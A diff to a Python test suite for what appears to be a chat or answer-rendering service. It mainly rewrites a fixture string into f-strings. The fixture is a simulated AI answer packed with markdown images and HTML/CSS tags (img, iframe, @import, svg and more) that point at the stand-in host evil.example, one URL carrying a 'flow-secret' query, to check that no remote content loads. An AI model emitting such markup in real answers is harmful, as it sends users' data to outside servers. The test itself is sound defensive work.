@@ -119,7 +119,7 @@ class ServiceProcess:
                 return
             except OSError:
                 if self.process.poll() is not None:
-                    raise RuntimeError(self.log_path.read_text())
+                    raise RuntimeError(self.log_path.read_text()) from None
                 time.sleep(0.2)
         self.stop()
         raise RuntimeError(f"service did not start:\n{self.log_path.read_text()}")
@@ -268,24 +268,25 @@ def test_html_and_script_in_an_answer_render_inert(auth_stack, model):
 
 EXFIL_MARKER = "ai-exfil-7f3c"
 REMOTE_CONTENT_ANSWER = (
-    "Here is the chart: ![sales chart](https://evil.example/{m}-markdown?q=flow-secret)\n\n"
-    "<img src=\"{m}-relative\"> <img src=\"https://evil.example/{m}-img\" alt=\"raw\">\n\n"
-    "<picture><source srcset=\"https://evil.example/{m}-srcset\"><img src=\"https://evil.example/{m}-picture\">"
+    f"Here is the chart: ![sales chart](https://evil.example/{EXFIL_MARKER}-markdown?q=flow-secret)\n\n"
+    f"<img src=\"{EXFIL_MARKER}-relative\"> <img src=\"https://evil.example/{EXFIL_MARKER}-img\" alt=\"raw\">\n\n"
+    f"<picture><source srcset=\"https://evil.example/{EXFIL_MARKER}-srcset\"><img src=\"https://evil.example/{EXFIL_MARKER}-picture\">"
     "</picture>\n\n"
-    "<video src=\"https://evil.example/{m}-video\" poster=\"https://evil.example/{m}-poster\"></video>"
-    "<audio src=\"https://evil.example/{m}-audio\"></audio>\n\n"
-    "<link rel=\"stylesheet\" href=\"https://evil.example/{m}-link.css\">"
-    "<style>@import url(\"https://evil.example/{m}-import.css\"); p {{ background: url(https://evil.example/{m}-css) }}"
+    f"<video src=\"https://evil.example/{EXFIL_MARKER}-video\" poster=\"https://evil.example/{EXFIL_MARKER}-poster\"></video>"
+    f"<audio src=\"https://evil.example/{EXFIL_MARKER}-audio\"></audio>\n\n"
+    f"<link rel=\"stylesheet\" href=\"https://evil.example/{EXFIL_MARKER}-link.css\">"
+    f"<style>@import url(\"https://evil.example/{EXFIL_MARKER}-import.css\"); "
+    f"p {{ background: url(https://evil.example/{EXFIL_MARKER}-css) }}"
     "</style>\n\n"
-    "<div style=\"background-image:url(https://evil.example/{m}-style)\">styled text</div>\n\n"
-    "<table background=\"https://evil.example/{m}-table\"><tr><td>cell text</td></tr></table>\n\n"
-    "<object data=\"https://evil.example/{m}-object\"></object><embed src=\"https://evil.example/{m}-embed\">"
-    "<iframe src=\"https://evil.example/{m}-iframe\"></iframe>"
-    "<input type=\"image\" src=\"https://evil.example/{m}-input\">"
-    "<svg><image href=\"https://evil.example/{m}-svg\"></image></svg>\n\n"
+    f"<div style=\"background-image:url(https://evil.example/{EXFIL_MARKER}-style)\">styled text</div>\n\n"
+    f"<table background=\"https://evil.example/{EXFIL_MARKER}-table\"><tr><td>cell text</td></tr></table>\n\n"
+    f"<object data=\"https://evil.example/{EXFIL_MARKER}-object\"></object><embed src=\"https://evil.example/{EXFIL_MARKER}-embed\">"
+    f"<iframe src=\"https://evil.example/{EXFIL_MARKER}-iframe\"></iframe>"
+    f"<input type=\"image\" src=\"https://evil.example/{EXFIL_MARKER}-input\">"
+    f"<svg><image href=\"https://evil.example/{EXFIL_MARKER}-svg\"></image></svg>\n\n"
     "Read [the docs](https://nodered.org/docs/) or [mail us](mailto:team@example.com), "
-    "not [this one](ftp://example.com/{m}-ftp) nor [that one]({m}-relative-link).\n\nThe end."
-).format(m=EXFIL_MARKER)
+    f"not [this one](ftp://example.com/{EXFIL_MARKER}-ftp) nor [that one]({EXFIL_MARKER}-relative-link).\n\nThe end."
+)
 
 
 def test_an_answer_loads_no_image_media_style_or_frame_live_or_reloaded(auth_stack, model):
